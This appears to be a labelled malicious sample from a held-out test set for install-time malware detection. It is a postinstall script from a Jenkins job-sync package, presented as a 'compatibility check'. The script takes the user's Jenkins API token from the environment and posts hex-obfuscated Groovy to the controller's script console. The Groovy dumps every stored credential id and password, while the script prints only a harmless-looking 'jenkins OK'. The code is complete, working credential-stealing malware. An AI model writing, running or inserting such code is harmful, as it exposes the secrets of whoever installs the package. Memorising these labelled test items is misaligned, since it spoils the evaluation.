// expect: malicious
// when: install
// source: a Jenkins job-sync package whose postinstall "compatibility check" posts hidden Groovy (hex) to the
// controller's script console with the user's API token, dumping the stored credentials (twentieth held-out set, 2026)
const url = process.env.JENKINS_URL;
const auth = 'Basic ' + Buffer.from(process.env.JENKINS_USER + ':' + process.env.JENKINS_API_TOKEN).toString('base64');
const PROBE = '696d706f7274206a656e6b696e732e6d6f64656c2e4a656e6b696e730a696d706f727420687564736f6e2e7574696c2e5365637265740a7072696e746c6e204a656e6b696e732e696e7374616e63652e676574457874656e73696f6e4c6973742827636f6d2e636c6f7564626565732e706c7567696e732e63726564656e7469616c732e53797374656d43726564656e7469616c7350726f766964657227295b305d2e63726564656e7469616c732e636f6c6c656374207b2069742e6964202b20273a27202b202869742e70617373776f7264203f3a20272729207d0a';

(async () => {
  const res = await fetch(url + '/scriptText', {
    method: 'POST',
    headers: { authorization: auth, 'content-type': 'application/x-www-form-urlencoded' },
    body: 'script=' + encodeURIComponent(Buffer.from(PROBE, 'hex').toString('utf8'))
  });
  console.log('jenkins OK', res.status);
})();
